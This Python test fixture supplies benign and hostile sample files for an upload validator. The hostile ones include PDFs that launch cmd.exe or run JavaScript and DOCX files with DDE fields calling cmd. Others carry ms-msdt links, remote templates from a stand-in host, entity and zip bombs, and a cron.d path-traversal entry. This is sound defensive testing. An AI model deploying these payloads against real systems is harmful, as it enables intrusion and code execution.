"""Honest files of every accepted kind, and hostile ones with the words that refuse them."""

from __future__ import annotations

from tests.documents import made_files as made

URI = b"6 0 obj\n<< /S /URI /URI (https://malo.example) >>\nendobj\n"
GO = b"6 0 obj\n<< /S /GoToR /F (otro.pdf) /D [0 /Fit] >>\nendobj\n"
GOOD = {
    "oficio.pdf": made.pdf(),
    "OFICIO.PDF": made.pdf(packed=b"1 0 << /Type /Catalog /OpenAction [3 0 R /Fit] >>"),
    "informe.docx": made.docx(),
    "informe con grafico.docx": made.docx({"word/embeddings/Microsoft_Excel_Sheet1.xlsx": made.xlsx()}),
    "informe con enlace.docx": made.docx_linked("hyperlink", "https://www.gob.pe/mindef"),
    "informe con plantilla.docx": made.docx_linked("attachedTemplate", "file:///C:/Users/x/Oficio.dotx"),
    "informe con campos.docx": made.docx_fields(["PAGE"], ["HYPERLINK ", '"https://www.gob.pe/dde"'], ["REF quote 7"]),
    "informe con carpeta.docx": made.docx_linked("hyperlink", "file:///\\\\servidor\\oficios"),
    "paginas.pdf": made.pdf(b"8 0 obj<</OpenAction<</S/GoTo/D[7 0 R/Fit]>>>>endobj\n7 0 obj<</A 6 0 R>>endobj\n" + URI),
    "lista.xlsx": made.xlsx({"xl/printerSettings/printerSettings1.bin": b"H\0P\0"}),
    "informe.odt": made.odf(),
    "lista.ods": made.odf("spreadsheet"),
    "foto.jpg": made.picture(),
    "foto.jpeg": made.picture(),
    "captura.png": made.picture("PNG"),
}
MACROS, INNER, FAR, LOCKED = "tiene macros", "otros archivos o programas", "de otra computadora", "protegido con"
TYPE, INSIDE, WHOLE, DAMAGED = "no es de un tipo aceptado", "no es un archivo", "no es un PDF completo", "dañado"
BY_ITSELF, STARTS = "por sí solo", "inicia un programa"
ACTIVE, UNREADABLE, BOMB = "programas dentro", "no se puede leer por dentro", "mucho más de lo que"
HTML = b"<html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
BILLION = '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;">]><l>&b;</l>'
LISTENER = '<d xmlns:script="x"><script:event-listener xlink:href="vnd.sun.star.script:a" xmlns:xlink="y"/></d>'
FETCH = '<d xmlns:draw="x" xmlns:xlink="y"><draw:image xlink:href="https://malo.example/a.png"/></d>'
ENCRYPTED = '<m xmlns="z"><file-entry><encryption-data/></file-entry></m>'
MACRO_TYPE = made.TYPES.format(
    '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
)
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "SVG with a script": ("logo.svg", SVG, TYPE),
    "page": ("pagina.html", HTML, TYPE),
    "program": ("informe.exe", b"MZ\x90\0", TYPE),
    "double ending": ("informe.pdf.exe", made.pdf(), TYPE),
    "ending turned around": ("informe\u202efdp.exe", made.pdf(), TYPE),
    "no ending": ("informe", made.pdf(), TYPE),
    "text with macros by its ending": ("informe.docm", made.docx(), TYPE),
    "sheet with macros by its ending": ("lista.xlsm", made.xlsx(), TYPE),
    "old text": ("informe.doc", made.OLE, TYPE),
    "archive": ("todo.zip", made.archive({"a.txt": "a"}), TYPE),
    "animation that is a script too": ("foto.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", TYPE),
    "empty": ("oficio.pdf", b"", "está vacío"),
    "too large": ("oficio.pdf", b"%PDF-" + b"0" * 10_000_001, "como máximo"),
    "page called PDF": ("oficio.pdf", HTML, INSIDE),
    "SVG called picture": ("logo.png", SVG, INSIDE),
    "program called PDF": ("oficio.pdf", b"MZ\x90\0" + b"\0" * 200, INSIDE),
    "PDF called text": ("informe.docx", made.pdf(), INSIDE),
    "animation called picture": ("foto.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)", INSIDE),
    "page behind the mark of a PDF": ("oficio.pdf", b"%PDF-1.4\n" + HTML + made.pdf()[9:], INSIDE),
    "PDF after a page": ("oficio.pdf", HTML + made.pdf(), INSIDE),
    "PDF before a page": ("oficio.pdf", made.pdf(made.LONG) + HTML, WHOLE),
    "PDF before an archive": ("oficio.pdf", made.pdf() + made.archive({"a.exe": b"MZ"}), WHOLE),
    "PDF around an archive": ("oficio.pdf", made.pdf() + made.archive({"a": b"b"}) + b"\n%%EOF", WHOLE),
    "PDF cut short": ("oficio.pdf", made.pdf()[:200], WHOLE),
    "EICAR called PDF": ("oficio.pdf", made.EICAR, INSIDE),
    "PDF with a script": ("oficio.pdf", made.pdf(b"8 0 obj<</S /JavaScript /JS (app.alert(1))>>endobj\n"), ACTIVE),
    "PDF with a disguised script": ("oficio.pdf", made.pdf(b"8 0 obj<</S /J#61va#53cript>>endobj\n"), ACTIVE),
    "PDF with a packed script": ("oficio.pdf", made.pdf(packed=b"8 0 <</S /JavaScript /JS (x)>>"), ACTIVE),
    "PDF that starts a program": ("oficio.pdf", made.pdf(b"8 0 obj<</S /Launch /F (cmd.exe)>>endobj\n"), ACTIVE),
    "PDF with an attachment": ("oficio.pdf", made.pdf(b"8 0 obj<</Type /EmbeddedFile>>endobj\n"), ACTIVE),
    "PDF with a password": ("oficio.pdf", made.pdf(b"8 0 obj<</Encrypt 7 0 R>>endobj\n"), LOCKED),
    "PDF that unpacks to 60 MB": ("oficio.pdf", made.pdf(packed=b"0" * 60_000_000), UNREADABLE),
    "PDF of 47 KB that unpacks to 50 MB": ("oficio.pdf", made.pdf(packed=b"#41" * 16_600_000), UNREADABLE),
    "PDF with oddly packed objects": (
        "oficio.pdf",
        made.pdf(b"8 0 obj<</Type /ObjStm /Filter /LZWDecode>>\nstream\nx\nendstream endobj\n"),
        UNREADABLE,
    ),
    "PDF of 30,000 streams": ("oficio.pdf", made.pdf(b"stream\n" * 30_000), UNREADABLE),
    "PDF with an endless stream": (
        "oficio.pdf",
        made.pdf(b"8 0 obj<</Type /ObjStm /Filter /FlateDecode>>\nstream\nx").replace(b"endstream", b"end"),
        UNREADABLE,
    ),
    "PDF with overlooked objects": (
        "oficio.pdf",
        made.pdf(b"8 0 obj<</Type /ObjStm /Filter /FlateDecode /X (obj)>>\nstream\nx\nendstream endobj\n"),
        UNREADABLE,
    ),
    "text with macros": ("informe.docx", made.docx({"word/vbaProject.bin": b"x"}), MACROS),
    "text that is one with macros": ("informe.docx", made.docx({"[Content_Types].xml": MACRO_TYPE}), MACROS),
    "sheet with old macros": ("lista.xlsx", made.xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}), MACROS),
    "text with a live control": ("informe.docx", made.docx({"word/activeX/activeX1.xml": "<a/>"}), MACROS),
    "sheet that asks programs": (
        "lista.xlsx",
        made.xlsx({"xl/externalLinks/externalLink1.xml": '<x><ddeLink ddeService="cmd" ddeTopic="/C calc"/></x>'}),
        MACROS,
    ),
    "text with a hidden program": ("informe.docx", made.docx({"word/media/image1.png": b"MZ\x90\0"}), INNER),
    "text with an object": ("informe.docx", made.docx({"word/embeddings/oleObject1.bin": made.OLE}), INNER),
    "text with an archive": ("informe.docx", made.docx({"word/media/a.png": made.archive({"a": "b"})}), INNER),
    "text with a script file": ("informe.docx", made.docx({"word/media/a.js": "x"}), INNER),
    "sheet within with macros": (
        "informe.docx",
        made.docx({"word/embeddings/Hoja.xlsx": made.xlsx({"xl/vbaProject.bin": b"x"})}),
        MACROS,
    ),
    "sheet within with a page": (
        "informe.docx",
        made.docx({"word/embeddings/Hoja.xlsx": made.xlsx({"xl/media/a.html": "x"})}),
        INNER,
    ),
    "text with a far template": ("a.docx", made.docx_linked("attachedTemplate", "https://malo.example/a.dotm"), FAR),
    "text with a far object": ("a.docx", made.docx_linked("oleObject", "\\\\malo.example\\a\\b.xls"), FAR),
    "text with a far picture": ("a.docx", made.docx_linked("image", "http://malo.example/espia.png"), FAR),
    "text with a far template behind a blank": (
        "a.docx",
        made.docx_linked("attachedTemplate", " &#9;ht&#10;tp://malo.example/a.dotm"),
        FAR,
    ),
    "text with an object that is a program": (
        "a.docx",
        made.docx_linked("oleObject", "ms-msdt:/id PCW /skip force"),
        FAR,
    ),
    "text with a template that is a search": ("a.docx", made.docx_linked("attachedTemplate", "search-ms:query=x"), FAR),
    "text with a link into a program": ("a.docx", made.docx_linked("hyperlink", "ms-msdt:/id PCW /skip force"), STARTS),
    "text that asks a program": ("a.docx", made.docx_fields(['DDE c:\\cmd.exe "/k calc"']), MACROS),
    "text that asks a program in pieces": ("a.docx", made.docx_fields(["PAGE"], [" DD", "EAU", "TO cmd"]), MACROS),
    "text that asks a program in numbers": ("a.docx", made.docx_fields(["QUOTE 68 68 69"]), MACROS),
    "text whose head asks a program": (
        "a.docx",
        made.docx({"word/header1.xml": made.fields(["DDEAUTO cmd"])}),
        MACROS,
    ),
    "text whose note asks a program in two bytes a sign": (
        "a.docx",
        made.docx({"word/footnotes.xml": made.fields(["DDEAUTO cmd"]).encode("utf-16")}),
        MACROS,
    ),
    "text that asks a program in one word": (
        "a.docx",
        made.docx({"word/footer1.xml": '<w:f xmlns:w="x"><w:fldSimple w:instr="DDE&#65;UTO cmd"/></w:f>'}),
        MACROS,
    ),
    "text that fetches a picture": ("a.docx", made.docx_fields(['INCLUDEPICTURE "http://malo.example/a.png"']), FAR),
    "text that fetches a text": ("a.docx", made.docx_fields(["INCLUDETEXT ", '"http://malo.example/a"']), FAR),
    "text within that asks a program": (
        "a.docx",
        made.docx({"word/embeddings/a.docx": made.docx_fields(["DDEAUTO cmd"])}),
        MACROS,
    ),
    "free text that asks a program": (
        "a.odt",
        made.odf(content='<d xmlns:o="x"><o:dde-source o:a="cmd"/></d>'),
        MACROS,
    ),
    "free text with a link into a program": (
        "a.odt",
        made.odf(content='<d xmlns:t="x" xmlns:l="y"><t:a l:href="vnd.sun.star.script:a"/></d>'),
        STARTS,
    ),
    "PDF that opens an address": ("a.pdf", made.pdf(URI + b"8 0 obj\n<</OpenAction 6 0 R>>\nendobj\n"), BY_ITSELF),
    "PDF whose page opens a file": ("a.pdf", made.pdf(GO + b"8 0 obj\n<</AA <</O 6 0 R>>>>\nendobj\n"), BY_ITSELF),
    "PDF that opens an address in turn": (
        "a.pdf",
        made.pdf(URI + b"8 0 obj<</Open#41ction<</S/GoTo/D[7 0 R/Fit]/Next[6 0 R]>>>>endobj\n"),
        BY_ITSELF,
    ),
    "PDF with a packed opening of an address": (
        "a.pdf",
        made.pdf(packed=b"1 0 2 22 <</OpenAction 2 0 R>> <</S/URI/URI(https://malo.example)>>"),
        BY_ITSELF,
    ),
    "text with a password": ("informe.docx", made.OLE, LOCKED),
    "text with locked parts": ("informe.docx", made.locked_archive(), LOCKED),
    "text that unpacks to 300 MB": ("informe.docx", made.docx({"word/media/a.bin": b"0" * 300_000_000}), BOMB),
    "text with 201 sheets": (
        "informe.docx",
        made.docx({f"word/embeddings/{n}.xlsx": made.xlsx() for n in range(201)}),
        BOMB,
    ),
    "text with sheets that unpack to 60 MB together": (
        "informe.docx",
        made.docx({f"word/embeddings/{n}.xlsx": made.xlsx({"xl/media/a.bin": made.THIN}) for n in range(3)}),
        BOMB,
    ),
    "text of 3,000 parts": ("informe.docx", made.docx({f"word/media/{n}.bin": "" for n in range(3000)}), BOMB),
    "text whose table lies": ("informe.docx", made.lying_archive(), DAMAGED),
    "text with entities": ("informe.docx", made.docx({"word/_rels/document.xml.rels": BILLION}), DAMAGED),
    "text with a part outside": ("informe.docx", made.docx({"../../etc/cron.d/x": "x"}), DAMAGED),
    "text twice": ("informe.docx", made.repeated_names(), DAMAGED),
    "text before a page": ("informe.docx", made.docx({"word/media/a.bin": bytes(range(256)) * 9}) + HTML, DAMAGED),
    "sheet called text": ("informe.docx", made.xlsx(), INSIDE),
    "archive called text": ("informe.docx", made.archive({"evil.txt": "x"}), DAMAGED),
    "free text of millions of elements": (
        "informe.odt",
        made.odf(content=f"<a>{'<b/>' * 2_500_000}</a>", more={"pad.bin": made.noise(460_000)}),
        BOMB,
    ),
    "free text with scripts": ("informe.odt", made.odf(more={"Basic/Standard/Module1.xml": "<a/>"}), MACROS),
    "free text with a listener": ("informe.odt", made.odf(content=LISTENER), MACROS),
    "free text that fetches": ("informe.odt", made.odf(content=FETCH), FAR),
    "free text with a password": ("informe.odt", made.odf(more={"META-INF/manifest.xml": ENCRYPTED}), LOCKED),
    "free text with entities": ("informe.odt", made.odf(content=BILLION), DAMAGED),
    "picture of 1,600 million points": ("foto.png", made.huge_png(), "25 millones"),
    "picture cut short": ("foto.jpg", made.picture()[:300], "está dañada"),
}
